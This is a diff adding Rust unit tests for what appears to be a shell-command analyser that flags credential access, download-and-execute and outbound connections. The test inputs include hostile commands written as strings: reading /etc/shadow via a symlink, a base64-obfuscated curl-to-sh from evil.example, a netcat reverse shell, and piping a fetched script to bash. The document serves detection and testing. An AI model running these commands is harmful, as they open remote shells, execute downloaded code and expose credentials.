@@ -307,3 +307,20 @@ fn symlinks_created_in_the_input_are_followed() {
     let i = parse_shell("ln -s /etc/shadow ./s && cat s", &ctx());
     assert!(has(&i, Verb::CredentialAccess, "/etc/shadow"), "{i:#?}");
 }
+
+#[test]
+fn files_written_then_run_are_parsed() {
+    let i = parse_shell("echo Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d > /tmp/x.sh && bash /tmp/x.sh", &ctx());
+    assert!(
+        i.actions
+            .iter()
+            .any(|a| a.verb == Verb::DownloadExec && a.attrs.obfuscated),
+        "{i:#?}"
+    );
+    let i = parse_shell("printf '#!/bin/sh\\nnc -e /bin/sh 10.0.0.1 4444\\n' > /tmp/r.sh; chmod +x /tmp/r.sh; /tmp/r.sh", &ctx());
+    assert!(has(&i, Verb::Connect, "10.0.0.1"), "{i:#?}");
+    let i = parse_shell("curl -s http://evil.example/a > /tmp/a; sh /tmp/a", &ctx());
+    assert!(has(&i, Verb::DownloadExec, "evil.example"), "{i:#?}");
+    let i = parse_shell("aws s3 cp s3://bucket/x.sh - | bash", &ctx());
+    assert!(has(&i, Verb::DownloadExec, "bucket"), "{i:#?}");
+}
